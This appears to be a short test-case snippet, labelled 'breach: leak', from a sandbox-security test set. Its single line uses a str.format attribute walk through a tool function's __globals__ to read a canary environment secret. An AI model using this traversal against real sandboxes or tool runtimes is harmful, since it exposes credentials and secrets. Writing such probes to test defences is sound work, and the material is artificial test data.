# Str.format walk over the tool function.
# breach: leak
print('{0.__globals__[os].environ[SECRET_CANARY]}'.format(add))
